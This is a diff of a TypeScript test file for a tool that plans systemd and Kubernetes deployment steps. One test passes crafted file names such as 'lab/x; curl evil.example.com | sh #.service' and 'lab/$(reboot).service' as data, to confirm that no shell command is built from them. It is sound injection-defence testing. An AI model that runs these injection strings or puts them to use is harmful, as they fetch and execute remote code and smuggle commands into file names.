@@ -72,6 +72,39 @@ test('a machine of the same name in another chat is another one', () => {
   expect(stepsBetween({ chats: { first: lab } }, { chats: { first: lab, second: other } })).toEqual([]);
 });
 
-test('a new machine has its own steps, and one that is gone has none of these', () => {
-  expect(stepsBetween(chat({ name: 'lab' }), chat({ name: 'other' }))).toEqual([]);
+const allGone = [
+  'systemctl --user disable --now model.service',
+  'systemctl --user disable --now model-watchdog.service',
+  'systemctl --user disable --now model-watchdog.timer',
+  '(cd ~/.config/systemd/user && rm -f model.service model-watchdog.service model-watchdog.timer skupper-default.service.d/model.conf)',
+  'systemctl --user daemon-reload',
+];
+
+test('a new machine has its own steps, and one that is gone gives its units up', () => {
+  expect(stepsBetween(chat({ name: 'lab' }), chat({ name: 'other' }))).toEqual([{ commands: allGone }]);
+});
+
+test('a site that goes from a machine to a cluster gives up the units of the machine', () => {
+  const onCluster = { name: 'lab', platform: 'kubernetes', namespace: { name: 'llm' }, host: 'vllm' } as const;
+  expect(stepsBetween(chat({ name: 'lab' }), chat(onCluster))).toEqual([{ commands: allGone }]);
+  expect(stepsBetween(chat(onCluster), chat({ name: 'lab' }))).toEqual([]);
+});
+
+test('no command is made of the path of a file that no run writes', () => {
+  const changes = (removed: string[]): SideChanges => ({
+    side: 'private',
+    path: 'dist-private',
+    manifests: [],
+    files: new Map(),
+    added: [],
+    changed: [],
+    removed,
+    kept: [],
+    unchanged: 0,
+    before: new Map(removed.map((path) => [path, ''])),
+  });
+  const evil = ['lab/x; curl evil.example.com | sh #.service', 'lab/$(reboot).service', '`a`.k8s.yaml', '-rf.k8s.yaml'];
+  const side = changes([...evil, 'lab.k8s.yaml']);
+  expect(machinesOf(side).map(({ site }) => site)).toEqual(['lab']);
+  expect(machinesOf(side).flatMap((machine) => unitSteps(side, machine) ?? [])).toEqual([]);
 });
